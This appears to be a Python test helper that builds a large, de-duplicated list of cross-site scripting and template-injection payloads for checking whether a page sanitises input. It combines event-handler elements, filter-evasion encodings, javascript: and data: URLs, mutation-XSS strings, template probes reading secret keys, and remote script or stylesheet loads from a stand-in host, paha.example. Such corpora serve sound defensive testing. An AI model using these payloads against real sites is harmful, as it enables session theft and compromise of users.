"""Words that would run in a page that does not take care: put together from families, none copied from a list.

All of them call `paha()` or lead to paha.example, so that what comes alive can be told apart. Each fits 120 characters,
the length of a title; longer mutations go only where there is room.
"""

from itertools import product

RUN = "paha(1)"
EVENTS = {
    "img": ["onerror", "onload", "onpointerenter"],
    "svg": ["onload", "onfocusin", "onclick"],
    "body": ["onload", "onpageshow", "onresize"],
    "video": ["onerror", "onloadstart", "oncanplay"],
    "audio": ["onerror", "onplay", "onstalled"],
    "details": ["ontoggle", "onmouseover", "onwheel"],
    "input": ["onfocus", "onblur", "oninvalid"],
    "marquee": ["onstart", "onfinish", "onbounce"],
    "iframe": ["onload", "onerror", "onmouseenter"],
    "object": ["onerror", "onload", "onkeyup"],
    "select": ["onfocus", "onchange", "oninput"],
    "math": ["onclick", "onscroll", "onpaste"],
    "x": ["onanimationstart", "ontransitionend", "oncopy"],
    "dialog": ["onclose", "oncancel", "onbeforetoggle"],
}
MORE = {
    "img": "src=x", "video": "src=x", "audio": "src=x", "object": "data=x", "details": "open", "input": "autofocus",
    "select": "autofocus", "x": "tabindex=1", "iframe": "src=//paha.example", "dialog": "open",
}  # fmt: skip
# The same element as careless filters do not know it.
SHAPES = [
    "<{tag} {more} {event}={run}>",
    "<{TAG}/{more}/{Event}='{run}'>",
    "<{tag}\t{more}\n{event}\t=\n{run}//",
    '"\'><{tag} {more} {event}="{run}">',
    "</title></textarea></script><{tag} {more} {event}={run}>",
    "<{tag} {more} {event}=&#112;aha&lpar;1)>",
    "<<{tag} {more} {event}={run}>>",
    "--><{tag} x=`{more}` {more} {event}={run}<!--",
    "&lt;{tag} {more} {event}={run}&gt;",
    "%3C{tag}%20{event}={run}%3E",
]
ADDRESSES = [
    "javascript:paha(1)",
    "JaVaScRiPt:paha(1)",
    "java\tscript:paha(1)",
    "&#106;avascript:paha(1)",
    "\x01javascript:paha(1)",
]
ADDRESSES += [
    "data:text/html,<script>paha(1)</script>",
    "vbscript:paha(1)",
    "//paha.example/x",
    "https://paha.example\\@a/",
]
LEADING = [
    "<a href=\"{0}\">x</a>", "<form action=\"{0}\"><button>x", "<iframe src=\"{0}\">", "<base href=\"{0}\">",
    "<meta http-equiv=refresh content=\"0;{0}\">", "<link rel=stylesheet href=\"{0}\">", "<embed src=\"{0}\">",
    "[x]({0})", "<svg><a href=\"{0}\"><text y=9>x", "<button formaction=\"{0}\">x",
]  # fmt: skip
SCRIPTS = [
    "<script>paha(1)</script>", "<ScRiPt>paha(1)</sCrIpT>", "<script src=//paha.example/x.js></script>",
    "<script/x>paha(1)</script>", "<script type=module>paha(1)</script>", "<svg><script>paha(1)</script>",
    "<script>paha(1)//", "</script><script>paha(1)</script>", "<scr<script>ipt>paha(1)</scr</script>ipt>",
    "＜script＞paha(1)＜/script＞", "+ADw-script+AD4-paha(1)+ADw-/script+AD4-", "\\u003cscript\\u003epaha(1)",
    "\\x3cscript\\x3epaha(1)", "<!--<script>paha(1)-->", "<![CDATA[<script>paha(1)</script>]]>", "'-paha(1)-'",
    '"-paha(1)-"', "`-paha(1)-`", "';paha(1)//", '";paha(1)//', "\\';paha(1)//", "${paha(1)}", "{{paha(1)}}",
    "{{constructor.constructor('paha(1)')()}}", "{% debug %}paha", "{{ settings.SECRET_KEY }}paha", "%(paha)s",
    "{0.__class__.__mro__}paha", "{event.__init__.__globals__}paha", "#{paha(1)}", "<%= paha(1) %>", "<?php paha(1) ?>",
    "\u2028paha(1)\u2029", "\u202e<script>paha(1)</script>", "=HYPERLINK(\"//paha.example\")",
    "@import '//paha.example';",
]  # fmt: skip
# Texts that are harmless until a parser mends them.
MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=paha(1)>'>",
    "<style><img src='</style><img src=x onerror=paha(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=paha(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=paha(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=paha(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=paha(1)>",
    "<!--><img src=x onerror=paha(1)>-->", "<!--!><img src=x onerror=paha(1)>", "<template><img src=x onerror=paha(1)>",
    "<select><style><!--</style></select><img src=x onerror=paha(1)>", "<plaintext><img src=x onerror=paha(1)>",
    "<table><td><a><table></a><img src=x onerror=paha(1)>", "<svg><foreignObject><img src=x onerror=paha(1)>",
    "<svg><animate onbegin=paha(1) attributeName=x dur=1s>", "<svg><set attributeName=onload to=paha(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=paha(1)>#x'>", "<p style=\"x:url('javascript:paha(1)')\">",
    "<div style=animation-name:x onanimationend=paha(1)>", "<iframe srcdoc='<script>parent.paha(1)</script>'>",
    "<object data='data:text/html,<script>parent.paha(1)</script>'>", "<img src=x id=paha name=getElementById>",
    "<a id=config><a id=config name=url href=//paha.example>", "<form id=paha><input name=innerHTML>",
    "<img src=x alt=`` onerror=paha(1)``>", "<textarea><img title='</textarea><img src=x onerror=paha(1)>'>",
    "<title><img title='</title><img src=x onerror=paha(1)>'>", "<input value=\"\" autofocus onfocus=\"paha(1)\">",
]  # fmt: skip


def _elements():
    for (tag, events), shape in product(EVENTS.items(), SHAPES):
        for event in events:
            yield shape.format(
                tag=tag, TAG=tag.upper(), event=event, Event=event.title(), more=MORE.get(tag, ""), run=RUN
            )


def payloads():
    """All of them, each once."""
    leading = (shape.format(address) for shape, address in product(LEADING, ADDRESSES))
    return list(dict.fromkeys([*SCRIPTS, *MUTATIONS, *leading, *_elements()]))
